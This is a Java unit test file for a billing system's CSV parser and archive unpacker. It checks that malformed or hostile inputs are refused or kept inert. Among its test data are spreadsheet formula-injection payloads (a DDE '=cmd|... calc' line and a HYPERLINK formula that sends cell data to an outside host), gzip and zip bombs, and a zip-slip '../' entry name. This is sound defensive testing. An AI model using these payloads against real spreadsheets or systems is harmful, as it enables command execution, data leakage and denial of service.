package io.billinghub.adapters.format;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.billinghub.adapters.model.RefusedException;
import io.billinghub.adapters.model.RuleCode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Flat documents and archives that are broken or hostile: each is refused with its code and place, or the line alone is
 * held. Made here, as editors and version control change what such files hold.
 */
class MalformedFlatDocumentsTest {

    private static final String HEAD = "Customer,Product,Net,Day\n";
    private static final String GOOD = "77,F1,1.50,2026-10-02\n";
    private static final String MAPPING = """
            {"columns": {"account": "Customer", "product": "Product", "net": "Net", "from": "Day"}, "constants": {"currency": "EUR"}}
            """;

    @TempDir
    Path folder;

    private static Parsing read(String encoding, byte[] document) {
        return Parsing.of(
                Parsing.descriptor("BILL", "{\"type\": \"csv\", \"encoding\": \"" + encoding + "\"}", MAPPING),
                "bill.csv",
                document);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(UTF_8);
    }

    private static byte[] marked(int... mark) {
        byte[] text = utf8(HEAD + GOOD);
        byte[] all = new byte[mark.length + text.length];
        for (int i = 0; i < mark.length; i++) {
            all[i] = (byte) mark[i];
        }
        System.arraycopy(text, 0, all, mark.length, text.length);
        return all;
    }

    static Stream<Arguments> refused() {
        return Stream.of(
                arguments("nothing", "utf-8", utf8(""), RuleCode.EMPTY_DOCUMENT, "row 1"),
                arguments("blank lines alone", "utf-8", utf8("\n\n\n"), RuleCode.EMPTY_DOCUMENT, "row 1"),
                arguments("no headers", "utf-8", utf8(GOOD + GOOD), RuleCode.MALFORMED_DOCUMENT, "row 1"),
                arguments(
                        "a header missing", "utf-8", utf8("Customer,Net,Day\n"), RuleCode.MALFORMED_DOCUMENT, "row 1"),
                arguments(
                        "a mapped header twice, written the same",
                        "utf-8",
                        utf8("Customer,Product,Net,Day,Net\n"),
                        RuleCode.MALFORMED_DOCUMENT,
                        "row 1"),
                arguments(
                        "another separator",
                        "utf-8",
                        utf8((HEAD + GOOD).replace(',', ';')),
                        RuleCode.MALFORMED_DOCUMENT,
                        "row 1"),
                arguments(
                        "a quote that never ends",
                        "utf-8",
                        utf8(HEAD + GOOD + "77,\"F1,1.50,2026-10-02\n" + GOOD),
                        RuleCode.MALFORMED_DOCUMENT,
                        "after row 2"),
                arguments(
                        "a quote that never ends, and two megabytes behind it",
                        "utf-8",
                        utf8(HEAD + "77,\"" + GOOD.repeat(100_000)),
                        RuleCode.MALFORMED_DOCUMENT,
                        "after row 1"),
                arguments(
                        "a field of more than a megabyte",
                        "utf-8",
                        utf8(HEAD + "77," + "x".repeat((1 << 20) + 10) + ",1.50,2026-10-02\n"),
                        RuleCode.MALFORMED_DOCUMENT,
                        "after row 1"),
                arguments(
                        "Latin-1 that says it is UTF-8",
                        "utf-8",
                        (HEAD + "77,Köln,1.50,2026-10-02\n").getBytes(ISO_8859_1),
                        RuleCode.NOT_UTF8,
                        "byte 29, row 2"),
                arguments(
                        "UTF-8 cut inside of a character",
                        "utf-8",
                        new byte[] {'a', (byte) 0xE2, (byte) 0x82},
                        RuleCode.NOT_UTF8,
                        "byte 3"),
                arguments(
                        "an overlong form of a slash",
                        "utf-8",
                        new byte[] {'a', (byte) 0xC0, (byte) 0xAF},
                        RuleCode.NOT_UTF8,
                        "byte 1, row 1"),
                arguments("UTF-16 that says it is UTF-8", "utf-8", marked(0xFF, 0xFE), RuleCode.NOT_UTF8, "byte 0"),
                arguments(
                        "UTF-8 with a mark that says it is windows-1252",
                        "windows-1252",
                        marked(0xEF, 0xBB, 0xBF),
                        RuleCode.MALFORMED_DOCUMENT,
                        "byte 0"),
                arguments(
                        "UTF-16 with a mark that says it is iso-8859-1",
                        "iso-8859-1",
                        marked(0xFE, 0xFF),
                        RuleCode.MALFORMED_DOCUMENT,
                        "byte 0"),
                arguments(
                        "UTF-16 without a mark that says it is iso-8859-1",
                        "iso-8859-1",
                        (HEAD + GOOD).getBytes(UTF_16LE),
                        RuleCode.MALFORMED_DOCUMENT,
                        "row 1"),
                arguments(
                        "UTF-16 without a mark",
                        "utf-16",
                        (HEAD + GOOD).getBytes(UTF_16LE),
                        RuleCode.MALFORMED_DOCUMENT,
                        "byte 0"),
                arguments(
                        "UTF-16 cut inside of a character",
                        "utf-16le",
                        oneLess((HEAD + GOOD + "7").getBytes(UTF_16LE)),
                        RuleCode.MALFORMED_DOCUMENT,
                        "after row 1"),
                arguments(
                        "a byte that windows-1252 does not have",
                        "windows-1252",
                        (HEAD + "77,\u0081,1.50,2026-10-02\n").getBytes(ISO_8859_1),
                        RuleCode.MALFORMED_DOCUMENT,
                        "after row 1"),
                arguments(
                        "a letter that US-ASCII does not have",
                        "us-ascii",
                        (HEAD + "77,ä,1.50,2026-10-02\n").getBytes(ISO_8859_1),
                        RuleCode.MALFORMED_DOCUMENT,
                        "after row 1"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refused")
    void theDocumentIsRefused(String what, String encoding, byte[] document, RuleCode rule, String place) {
        assertThatThrownBy(() -> read(encoding, document))
                .as(what)
                .isInstanceOfSatisfying(RefusedException.class, refusal -> {
                    assertThat(refusal.rule()).isEqualTo(rule);
                    assertThat(refusal.place()).isEqualTo(place);
                    assertThat(refusal.getMessage()).isNotBlank();
                });
    }

    static Stream<Arguments> held() {
        return Stream.of(
                arguments(
                        "a field too many", "77,F1,1.50,2026-10-02,x", "the row has 5 fields where the headers have 4"),
                arguments("a field too few", "77,F1,1.50", "the row has 3 fields where the headers have 4"),
                arguments("a comma that shifts columns", "77,F1, Gold,1.50,2026-10-02", "the row has 5 fields"),
                arguments("no amount", "77,F1,,2026-10-02", "Net: a number is missing"),
                arguments("a huge exponent", "77,F1,1e999999999,2026-10-02", "is not a number"),
                arguments("a tiny exponent", "77,F1,1e-999999999,2026-10-02", "is not a number"),
                arguments(
                        "a number of a thousand digits",
                        "77,F1," + "9".repeat(1000) + ",2026-10-02",
                        "a number of 1000 characters"),
                arguments("NaN", "77,F1,NaN,2026-10-02", "is not a number"),
                arguments("Infinity", "77,F1,-Infinity,2026-10-02", "is not a number"),
                arguments("hexadecimal", "77,F1,0x1F,2026-10-02", "is not a number"),
                arguments("digits of another script", "77,F1,١٢,2026-10-02", "is not a number"),
                arguments("a decimal comma", "77,F1,\"1,5\",2026-10-02", "is not a number"),
                arguments("another currency in the amount", "77,F1,£1.50,2026-10-02", "is not in EUR"),
                arguments("two minus signs", "77,F1,(-1.50),2026-10-02", "says twice that it is negative"),
                arguments("a formula for an amount", "77,F1,=1+1,2026-10-02", "is not a number"),
                arguments("a day that does not exist", "77,F1,1.50,2026-02-30", "is not a date"),
                arguments("a date in another order", "77,F1,1.50,02/10/2026", "is not a date"),
                arguments("a year of a typing error", "77,F1,1.50,0206-10-02", "is not between 2000 and 2200"),
                arguments("a NUL in a customer number", "7\u00007,F1,1.50,2026-10-02", "holds U+0000"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("held")
    void theLineIsHeldAndTheOthersComeIn(String what, String row, String detail) {
        Parsing parsed = read("utf-8", utf8(HEAD + GOOD + row + "\n" + GOOD));

        assertThat(parsed.lines).hasSize(2);
        assertThat(parsed.flaws).as(what).singleElement().satisfies(flaw -> {
            assertThat(flaw.rule()).isEqualTo(RuleCode.MALFORMED_LINE);
            assertThat(flaw.place()).isEqualTo("row 3");
            assertThat(flaw.detail()).contains(detail);
        });
    }

    @ParameterizedTest
    @MethodSource("formulas")
    void aFormulaInATextIsKeptAsTheTextThatItIs(String formula) {
        Parsing parsed = read("utf-8", utf8(HEAD + "77,\"" + formula.replace("\"", "\"\"") + "\",1.50,2026-10-02\n"));

        assertThat(parsed.flaws).isEmpty();
        assertThat(parsed.lines.get(0).product()).isEqualTo(formula);
    }

    static Stream<String> formulas() {
        return Stream.of(
                "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)", "=HYPERLINK(\"http://example.org?x=\"&A1,\"pay\")");
    }

    @Test
    void oneDocumentHasOneByteOrderMarkAndItIsNoPartOfAHeader() {
        assertThat(read("utf-8", marked(0xEF, 0xBB, 0xBF)).lines).hasSize(1);
        assertThat(read("utf-16", ("\uFEFF" + HEAD + GOOD).getBytes(Charset.forName("UTF-16LE"))).lines)
                .hasSize(1);
        assertThat(read("utf-16le", ("\uFEFF" + HEAD + GOOD).getBytes(UTF_16LE)).lines)
                .hasSize(1);
    }

    static Stream<Arguments> archives() throws IOException {
        byte[] text = utf8(HEAD + GOOD);
        byte[] zeros = new byte[4 << 20];
        byte[] gzip = gzip(text);
        return Stream.of(
                arguments("a gzip bomb", gzip(zeros), "it unfolds to more than 100 times its size"),
                arguments("a zip bomb", zip("bill.csv", zeros), "it unfolds to more than 100 times its size"),
                arguments(
                        "more than allowed",
                        gzip(noise(9 << 20)),
                        "unpacked it has more than the 8388608 bytes allowed"),
                arguments("gzip in gzip", gzip(gzip), "there is an archive inside of the archive"),
                arguments(
                        "zip in zip",
                        zip("inner.zip", zip("bill.csv", text)),
                        "there is an archive inside of the archive"),
                arguments("zip in gzip", gzip(zip("bill.csv", text)), "there is an archive inside of the archive"),
                arguments(
                        "a zip of two",
                        zip("a.csv", text, "b.csv", text),
                        "the zip holds more than one file: one document per zip"),
                arguments("a zip of none", zip(), "the zip holds no file that can be read"),
                arguments(
                        "a zip of a folder alone",
                        zip("bills/", new byte[0]),
                        "the zip holds no file that can be read"),
                arguments("a gzip that is cut", cut(gzip), "the archive is damaged"),
                arguments("a gzip with a wrong check sum", flipped(gzip, gzip.length - 6), "the archive is damaged"),
                arguments("a zip that is cut", cut(zip("bill.csv", noise(5000))), "the archive is damaged"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("archives")
    void theArchiveIsRefused(String what, byte[] archive, String detail) throws IOException {
        Path packed = Files.write(folder.resolve("packed"), archive);

        assertThatThrownBy(() -> new Unpacker(8 << 20, 100).unpack(packed, folder.resolve("unpacked")))
                .as(what)
                .isInstanceOfSatisfying(RefusedException.class, refusal -> {
                    assertThat(refusal.rule()).isEqualTo(RuleCode.ARCHIVE_REFUSED);
                    assertThat(refusal.place()).isEqualTo("archive");
                    assertThat(refusal.getMessage()).startsWith(detail);
                });
    }

    @Test
    void aNameThatClimbsOutOfTheArchiveIsNeverUsed() throws IOException {
        Path packed = Files.write(folder.resolve("packed.zip"), zip("../../../outside.csv", utf8(HEAD + GOOD)));
        Path target = folder.resolve("deep/er/unpacked");
        Files.createDirectories(target.getParent());

        assertThat(new Unpacker(8 << 20, 100).unpack(packed, target)).isEqualTo(target);
        try (Stream<Path> files = Files.walk(folder)) {
            assertThat(files.filter(Files::isRegularFile)).containsExactlyInAnyOrder(packed, target);
        }
    }

    private static byte[] gzip(byte[] content) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
            out.write(content);
        }
        return bytes.toByteArray();
    }

    private static byte[] zip(Object... namesAndContents) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(bytes)) {
            for (int i = 0; i < namesAndContents.length; i += 2) {
                out.putNextEntry(new ZipEntry((String) namesAndContents[i]));
                out.write((byte[]) namesAndContents[i + 1]);
            }
        }
        return bytes.toByteArray();
    }

    /** Bytes that do not pack well. */
    private static byte[] noise(int length) {
        byte[] noise = new byte[length];
        new java.util.Random(5).nextBytes(noise);
        return noise;
    }

    private static byte[] oneLess(byte[] whole) {
        return java.util.Arrays.copyOf(whole, whole.length - 1);
    }

    private static byte[] cut(byte[] whole) {
        return java.util.Arrays.copyOf(whole, whole.length * 2 / 3);
    }

    private static byte[] flipped(byte[] whole, int at) {
        byte[] copy = whole.clone();
        copy[at] ^= 0x55;
        return copy;
    }
}
